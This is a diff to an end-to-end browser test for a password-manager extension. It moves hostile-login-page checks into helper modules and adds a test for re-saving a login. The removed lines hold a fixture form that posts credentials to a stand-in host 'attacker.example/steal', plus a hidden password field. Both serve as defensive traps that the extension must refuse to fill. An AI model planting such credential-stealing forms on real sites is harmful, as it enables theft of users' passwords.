@@ -11,7 +11,8 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { launchChromium, launchWithExtension } from "./chromium.mjs";
 import { WAIT, openDevice, panel, root, startDemo, vaultAction } from "./demo-page.mjs";
-import { serveStatic } from "./static-server.mjs";
+import { checkHostileForms, trickSite } from "./extension-fill-tricks.mjs";
+import { attackerServer } from "./hostile-forms.mjs";
 
 const shots = join(root, "tests/browser/screenshots");
 const LOGIN_PAGE = `<!doctype html><meta charset="utf-8"><title>Sign in</title>
@@ -44,14 +45,9 @@ async function main() {
   mkdirSync(shots, { recursive: true });
   const demo = await startDemo();
   execFileSync("bash", [join(root, "scripts/build-extension.sh")], { stdio: "inherit" });
-  const site = await serveStatic({
-    pages: {
-      "/login.html": LOGIN_PAGE,
-      // The same origin, but its form posts elsewhere, or its password field is invisible.
-      "/elsewhere.html": LOGIN_PAGE.replace("<form>", '<form action="https://attacker.example/steal">'),
-      "/invisible.html": LOGIN_PAGE.replace('type="password"', 'type="password" style="opacity:0"'),
-    },
-  });
+  // The login's site also serves the hostile login pages (hostile-forms.mjs).
+  const attacker = await attackerServer();
+  const site = await trickSite(attacker, { "/login.html": LOGIN_PAGE });
   const port = new URL(site.url).port;
   const loginOrigin = `http://127.0.0.1:${port}`;
   const profile = mkdtempSync(join(tmpdir(), "meta-secret-extension-"));
@@ -203,15 +199,12 @@ async function main() {
     const frameFields = await framed.frames()[1].evaluate(() => [...document.querySelectorAll("input")].map((i) => i.value));
     assert.deepEqual(frameFields, ["", ""], "never into a cross-origin frame");
 
-    for (const [path, why] of [["elsewhere", "sends to another site"], ["invisible", "no password field"]]) {
-      const trap = await context.newPage();
-      await trap.goto(`${loginOrigin}/${path}.html`);
-      const refused = await fillInto(await tabId(`${loginOrigin}/${path}.html`));
-      assert.equal(refused.code, "NO_FORM", JSON.stringify(refused));
-      assert.match(refused.message, new RegExp(why));
-      assert.deepEqual(await fields(trap), ["", ""], `nothing filled on ${path}`);
-      await trap.close();
-    }
+    // Every hostile login page is refused and every honest one filled, through the real fill.
+    const tricks = await checkHostileForms(context, site, attacker, tabId, async (tab) => {
+      const answer = await fillInto(tab);
+      return answer.ok ? answer.value : `${answer.code}: ${answer.message}`;
+    }, PASSWORD);
+    console.log(`${tricks} hostile and honest login pages checked`);
 
     // A claim made on the web demo shows as a badge and, live, in the open popup; it is approved there.
     await popup.goto(popupUrl());
@@ -251,6 +244,31 @@ async function main() {
     await popup.goto(popupUrl());
     await popup.locator("#logins li", { hasText: "grace" }).waitFor({ timeout: WAIT });
     assert.equal(await popup.locator("#logins li", { hasText: "ada" }).count(), 1, "one ada after the edit");
+    // Saving the same site and username again (not through Edit) updates it too: still one row.
+    const editedId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
+      .find((login) => login.username === "ada").id;
+    await popup.locator("#save").evaluate((details) => (details.open = true));
+    await save.getByLabel("Site").fill(loginOrigin);
+    await save.getByLabel("Username").fill("ada");
+    await save.getByLabel("Password").fill("the newest password");
+    await save.getByRole("button", { name: "Save login" }).click();
+    await popup.waitForFunction(async (old) => {
+      const { value } = await chrome.runtime.sendMessage({ type: "state" });
+      const adas = value.logins.filter((login) => login.username === "ada");
+      return adas.length === 1 && adas[0].id !== old;
+    }, editedId, { timeout: WAIT, polling: 250 });
+    // The newest version is the one that fills, once unlocked (Alice approves the unlock).
+    await popup.goto(popupUrl(`?tab=${loginTab}`));
+    await popup.getByRole("button", { name: /Unlock 1 login/ }).click();
+    await panel(alice).locator(".claims li", { hasText: "browser extension asks to unlock 1 secret(s)" })
+      .getByRole("button", { name: "Approve all" }).click({ timeout: WAIT });
+    await popup.locator("#logins li", { hasText: "ada" }).getByRole("button", { name: "Fill" }).waitFor({ timeout: WAIT });
+    await page.reload();
+    await pressShortcut(context, page, "L", ALT | SHIFT);
+    await page.waitForFunction(() => document.querySelector("input[type=password]").value === "the newest password",
+      undefined, { timeout: WAIT });
+    await popup.goto(popupUrl());
+    await popup.locator("#logins li", { hasText: "grace" }).waitFor({ timeout: WAIT });
     loginId = (await popup.evaluate(() => chrome.runtime.sendMessage({ type: "state" }))).value.logins
       .find((login) => login.username === "ada").id;
     // Delete is a vote: the popup shows its progress, and once Alice votes too the login is gone
@@ -324,6 +342,7 @@ async function main() {
     await context.close().catch(() => {});
     await browser.close();
     await site.close();
+    await attacker.close();
     await demo.stop();
     rmSync(profile, { recursive: true, force: true });
   }
